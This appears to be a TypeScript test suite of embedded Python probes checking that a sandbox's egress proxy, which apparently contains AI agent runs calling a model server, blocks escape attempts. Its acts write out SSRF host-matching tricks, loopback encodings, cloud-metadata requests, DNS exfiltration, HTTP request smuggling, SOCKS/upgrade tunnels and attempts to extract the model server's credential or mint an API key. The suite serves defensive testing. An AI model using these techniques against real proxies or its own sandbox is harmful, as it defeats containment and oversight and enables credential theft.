import { readFileSync } from "node:fs";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { type Act, py, skipped } from "../act.ts";
import { saidBy } from "../play.ts";

/** Acts that want to reach hosts which are not allowed, or to be reached. */
export const NETWORK: readonly Act[] = [
  {
    number: 600,
    name: "control: the allowed host is reachable through the way out",
    holds: "it answers, and so does the model",
    network: "open",
    sandboxOnly: true,
    script: py`
answer = proxy(f"GET http://localhost:{W['allowed']}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())
if not came_through(answer) or b"allowed GET" not in answer:
    got(f"no answer: {answer}")
answer = proxy(b"GET http://model.sandbox/v1/messages HTTP/1.1\r\nHost: x\r\n\r\n")
if not came_through(answer):
    got(f"no answer of the model: {answer}")
held("both answer")`,
  },
  {
    number: 601,
    name: "connect straight to a host that is not allowed",
    holds: "no way",
    network: "open",
    script: py`
for host in ["127.0.0.1", "192.0.2.2", "198.51.100.1"]:
    attempt(host, lambda: tcp(host, W["forbidden"]))`,
  },
  {
    number: 602,
    name: "connect over IPv6",
    holds: "no way",
    network: "open",
    script: py`
for host in ["::1", "::ffff:127.0.0.1", "2001:db8::1", "fe80::1"]:
    attempt(host, lambda: tcp(host, W["forbidden"], family=socket.AF_INET6))`,
  },
  {
    number: 603,
    name: "ask the way out for a host that is not listed",
    holds: "refused",
    network: "open",
    sandboxOnly: true,
    script: py`
port = W["forbidden"]
for asked in [f"CONNECT localhost:{port}", f"CONNECT other.example.org:443", f"GET http://localhost:{port}/", "GET http://other.example.org/", f"GET http://127.0.0.1:{W['allowed']}/", f"OPTIONS *", "GET /", f"GET https://localhost:{W['allowed']}/"]:
    answer = proxy(f"{asked} HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n".encode())
    if came_through(answer):
        got(f"{asked}: {answer[:60]}")`,
  },
  {
    number: 604,
    name: "fool the matching of names (NUL, suffix, user, case, dots, escapes)",
    holds: "refused",
    network: "open",
    sandboxOnly: true,
    script: py`
port = W["forbidden"]
ok = W["allowed"]
for host in [b"other.example.org\0localhost", b"localhost\0.example.org", b"localhost.example.org", b"notlocalhost", b"localhost.", b".localhost", b"user@localhost", b"localhost@other.example.org", b"local%68ost", b"LOCALHOST\t", b"localhost#", b"[localhost]", b"localhost,other", "loc\u0430lhost".encode(), b"*", b"localhost:%d@127.0.0.1" % ok]:
    for way in [b"CONNECT %s:%d" % (host, port), b"GET http://%s:%d/" % (host, port), b"CONNECT %s:%d" % (host, W["api"])]:
        answer = proxy(way + b" HTTP/1.1\r\nHost: localhost\r\n\r\n")
        if came_through(answer):
            got(way)`,
  },
  {
    number: 605,
    name: "reach the daemon's API through the way out, in every spelling of the loopback",
    holds: "refused",
    network: "open",
    sandboxOnly: true,
    script: py`
for host in ["127.0.0.1", "localhost", "0", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "017700000001", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "127.0.0.1.nip.example.org", "0177.0.0.1", "①②⑦.0.0.1"]:
    for way in [f"CONNECT {host}:{W['api']}", f"GET http://{host}:{W['api']}/"]:
        answer = proxy(f"{way} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
        if came_through(answer):
            got(way)`,
  },
  {
    number: 606,
    name: "use an allowed name that leads to a private address",
    holds: "addresses are checked after the name is resolved",
    network: "strict",
    sandboxOnly: true,
    script: py`
for way in ["GET http://localhost:%d/", "CONNECT localhost:%d", "GET http://LocalHost:%d/"]:
    answer = proxy((way % W["allowed"] + " HTTP/1.1\r\nHost: x\r\n\r\n").encode())
    if came_through(answer):
        got(answer[:60])`,
    after: async ({ world }) => await world.damage(["model"]),
  },
  {
    number: 607,
    name: "call the daemon's API on the loopback",
    holds: "the loopback is its own",
    script: py`
attempt("127.0.0.1", lambda: tcp("127.0.0.1", W["api"]))
attempt("localhost", lambda: tcp("localhost", W["api"]))`,
  },
  {
    number: 608,
    name: "read a cloud's metadata service",
    holds: "no way",
    network: "open",
    sandboxOnly: true,
    script: py`
attempt("straight", lambda: tcp("169.254.169.254", 80))
for host in ["169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "0xa9fea9fe"]:
    answer = proxy(f"GET http://{host}/latest/meta-data/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    if came_through(answer):
        got(host)`,
  },
  {
    number: 609,
    name: "reach the machine by the address of its own network card",
    holds: "no way",
    network: "open",
    sandboxOnly: true,
    script: py`
for address in W["addresses"]:
    attempt(address, lambda: tcp(address, W["forbidden"], family=socket.AF_INET6 if ":" in address else socket.AF_INET))
    answer = proxy(f"GET http://{address}:{W['forbidden']}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    if came_through(answer):
        got(f"through the way out: {address}")`,
  },
  {
    number: 610,
    name: "send data out in questions for names",
    holds: "no question leaves",
    network: "open",
    sandboxOnly: true,
    script: py`
question = bytes.fromhex("abcd01000001000000000000") + b"\x06secret\x07example\x03org\0" + bytes.fromhex("00010001")
for server in ["127.0.0.53", "127.0.0.1", "192.0.2.2", *W["addresses"]]:
    for port in [53, W["udp"]]:
        it = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
        it.settimeout(0.2)
        attempt(f"{server}:{port}", lambda: it.sendto(question, (server, port)) and it.recv(100))
attempt("libc", lambda: socket.getaddrinfo("secret.example.org", 443))`,
  },
  {
    number: 611,
    name: "send UDP and ICMP out",
    holds: "no way",
    script: py`
if W["level"] == "sandbox":
    for address in ["198.51.100.1", *W["addresses"]]:
        if ":" not in address:
            attempt(f"udp {address}", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (address, W["udp"])))
    attempt("icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08\0\0\0", ("198.51.100.1", 0)))
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
it.sendto(b"x", ("127.0.0.1", W["udp"]))
time.sleep(0.2)`,
  },
  {
    number: 612,
    name: "open a port that others on the host can reach",
    holds: "listeners stay inside",
    play: async ({ run, world }) => {
      const listening = run(
        py`
it = socket.socket()
it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
it.bind(("0.0.0.0", 0))
it.listen()
with open("port", "w") as file:
    file.write(str(it.getsockname()[1]))
os.rename("port", "listening")
it.settimeout(4)
got(f"{it.accept()[1]} came in")`,
      );
      await knock(`${world.places.workspace}/listening`);
      return saidBy(await listening);
    },
  },
  {
    number: 613,
    name: "name one host in the request line and another in Host",
    holds: "Host is rewritten",
    network: "open",
    sandboxOnly: true,
    script: py`
answer = proxy(f"GET http://localhost:{W['allowed']}/ HTTP/1.1\r\nHost: other.example.org\r\n\r\n".encode())
if b"other.example.org" in answer:
    got(answer[-80:])`,
  },
  {
    number: 614,
    name: "name another host in the TLS greeting than in CONNECT, or none, or send no TLS",
    holds: "the greeting must name the host",
    network: "open",
    sandboxOnly: true,
    script: py`
import ssl
def hello(name):
    context = ssl.create_default_context()
    context.check_hostname = False
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    it = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try:
        it.do_handshake()
    except ssl.SSLError:
        pass
    return outgoing.read()
asked = f"CONNECT localhost:{W['tunnel']} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
for what in [hello("other.example.org"), hello(None), hello("localhost.example.org"), b"SSH-2.0-x\r\n", b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\xff\xff"]:
    answer = proxy(asked, what, wait=2)
    if b"tunnel answers" in answer:
        got(what[:20])`,
  },
  {
    number: 615,
    name: "use the allowed host on other ports",
    holds: "only the listed ports",
    network: "open",
    sandboxOnly: true,
    script: py`
for port in [22, 80, 443, W["api"], W["forbidden"], W["model"], 0, 65536 + W["allowed"], -1]:
    for way in [f"CONNECT localhost:{port}", f"GET http://localhost:{port}/"]:
        if came_through(proxy(f"{way} HTTP/1.1\r\nHost: x\r\n\r\n".encode(), wait=2)):
            got(way)`,
  },
  {
    number: 616,
    name: "use another task's way out",
    holds: "each tree has only its own",
    network: "open",
    play: async ({ run, level }) => {
      if (level !== "sandbox") return skipped("there are no ways out at this level");
      const other = run(`time.sleep(3)`);
      const end = await run(py`
seen = [name for name in os.listdir("/run")]
if seen != ["egress.sock"]:
    got(seen)
for port in range(3000, 3300):
    if port != 3128:
        attempt(str(port), lambda: tcp("127.0.0.1", port))
others = [line for line in read("/proc/net/unix").split("\n") if "sle-run" in line]
if others:
    got(others)`);
      await other;
      return saidBy(end);
    },
  },
  {
    number: 617,
    name: "look at the host's network (interfaces, neighbours, connections)",
    holds: "only its own loopback",
    script: py`
names = [name for _, name in socket.if_nameindex()]
if names != ["lo"]:
    got(names)
local = "%04X" % W["api"]
if local in read("/proc/net/tcp"):
    got("the daemon's port shows")`,
  },
  {
    number: 618,
    name: "make the model's server tell the credential back (TRACE, odd headers)",
    holds: "refused, or without it",
    network: "open",
    sandboxOnly: true,
    script: py`
for way in ["TRACE", "trace", "TRACK", "DEBUG"]:
    for more in ["", "Max-Forwards: 0\r\n", "Connection: x-api-key\r\n", "x-http-method-override: TRACE\r\n"]:
        print(proxy(f"{way} http://model.sandbox/v1/messages HTTP/1.1\r\nHost: x\r\n{more}\r\n".encode()))`,
  },
  {
    number: 619,
    name: "reach other paths, ports and names of the model's server",
    holds: "the target is the target",
    network: "open",
    sandboxOnly: true,
    script: py`
for way in ["CONNECT model.sandbox:443", "CONNECT model.sandbox:8080", "CONNECT x.model.sandbox:80", "GET http://model.sandbox:8080/v1/messages", "GET https://model.sandbox/", "GET http://x.model.sandbox/", "GET http://model.sandbox.example.org/"]:
    if came_through(proxy(f"{way} HTTP/1.1\r\nHost: x\r\n\r\n".encode(), wait=2)):
        got(way)
for path in ["/../x", "/v1/%2e%2e/x", "/v1/..;/x", "/v1/..\\x", "//other.example.org/../x"]:
    if came_through(proxy(f"GET http://model.sandbox{path} HTTP/1.1\r\nHost: x\r\n\r\n".encode(), wait=2)):
        got(path)
opened = b"CONNECT model.sandbox:80 HTTP/1.1\r\nHost: x\r\n\r\n"
for target, host in [("/v1/files", "model.sandbox"), (f"http://localhost:{W['forbidden']}/", "x"), ("/", f"localhost:{W['forbidden']}"), (f"http://localhost:{W['allowed']}/", "model.sandbox")]:
    request = f"GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    inside = proxy(opened + request, wait=2).split(b"\r\n\r\n", 1)[-1]
    if came_through(inside) or b"forbidden" in inside:
        got(f"{target} in a tunnel: {inside[:60]}")`,
  },
  {
    number: 620,
    name: "smuggle a second request behind the first one",
    holds: "one request a connection",
    network: "open",
    sandboxOnly: true,
    script: py`
second = f"GET http://localhost:{W['forbidden']}/ HTTP/1.1\r\nHost: x\r\n\r\n"
inner = f"GET /smuggled HTTP/1.1\r\nHost: localhost:{W['forbidden']}\r\n\r\n"
first = f"POST http://localhost:{W['allowed']}/ HTTP/1.1\r\nHost: x\r\n"
for head in ["\r\n" + second, "Content-Length: 0\r\n\r\n" + second, f"Content-Length: {len(inner)}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}", f"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{inner}", f"Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n{inner}", f"Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}", f"X: y\nContent-Length: 0\r\n\r\n{inner}"]:
    answer = proxy((first + head).encode("latin1"), wait=2)
    if answer.count(b"HTTP/1.1 200") > 1 or b"forbidden" in answer:
        got(answer[:200])`,
  },
  {
    number: 621,
    name: "ask for another protocol on the way (Upgrade, HTTP/2, SOCKS)",
    holds: "refused",
    network: "open",
    sandboxOnly: true,
    script: py`
for data in [f"GET http://localhost:{W['allowed']}/ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n".encode(), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\x05\x01\x00", b"\x04\x01" + struct.pack(">H", W["forbidden"]) + bytes([127, 0, 0, 1]) + b"x\0", b"\x16\x03\x01\x00\x05hello"]:
    answer = proxy(data, wait=2)
    if came_through(answer) or answer[:2] in (b"\x05\0", b"\0\x5a") or b" 101 " in answer[:20]:
        got(answer[:40])`,
  },
  {
    number: 622,
    name: "open more connections on the way out than it serves",
    holds: "bounded, and it serves again afterwards",
    network: "open",
    sandboxOnly: true,
    seconds: 60,
    script: py`
many = []
for _ in range(600):
    it = socket.socket()
    it.settimeout(5)
    try:
        it.connect(("127.0.0.1", 3128))
        it.sendall(b"GET ")
        many.append(it)
    except OSError:
        it.close()
for it in many:
    it.close()
for _ in range(50):
    if came_through(proxy(f"GET http://localhost:{W['allowed']}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())):
        held(f"{len(many)} connections, and it serves again")
    time.sleep(0.1)
got("it serves no more")`,
  },
  {
    number: 623,
    name: "make interfaces and routes",
    holds: "refused",
    sandboxOnly: true,
    script: py`
def ask(kind, payload):
    it = socket.socket(16, socket.SOCK_RAW, 0)
    it.bind((0, 0))
    it.send(struct.pack("IHHII", 16 + len(payload), kind, 5 | 0x400 | 0x200, 1, 0) + payload)
    code = struct.unpack("IHHIIi", it.recv(4096)[:20])[5]
    if code != 0:
        raise OSError(-code, "netlink")
    return "done"
attempt("link", lambda: ask(16, struct.pack("BBHiII", 0, 0, 0, 1, 0, 1)))
attempt("address", lambda: ask(20, struct.pack("BBBBi", 2, 24, 0, 0, 1) + struct.pack("HHI", 8, 2, 0x0100000A)))`,
  },
  {
    number: 624,
    name: "ask the model's server, with the credential, for more than answers: a key of its own",
    holds: "only what a model is asked for goes through",
    network: "open",
    sandboxOnly: true,
    script: py`
for path in ["/v1/organizations/api_keys", "/v1/files"]:
    if came_through(proxy(f"POST http://model.sandbox{path} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n".encode())):
        got(path)`,
  },
];

const KNOCKS = 100;

/** Connects from outside to the port that a script says it listens on. */
async function knock(path: string): Promise<void> {
  for (let tries = 0; tries < KNOCKS; tries += 1) {
    const port = portIn(path);
    if (port !== null) {
      connect(port, "127.0.0.1")
        .on("error", () => {})
        .on("connect", function ended(this: { destroy: () => void }) {
          this.destroy();
        });
      return;
    }
    await sleep(50);
  }
}

function portIn(path: string): number | null {
  try {
    return Number(readFileSync(path, "utf8"));
  } catch {
    return null;
  }
}
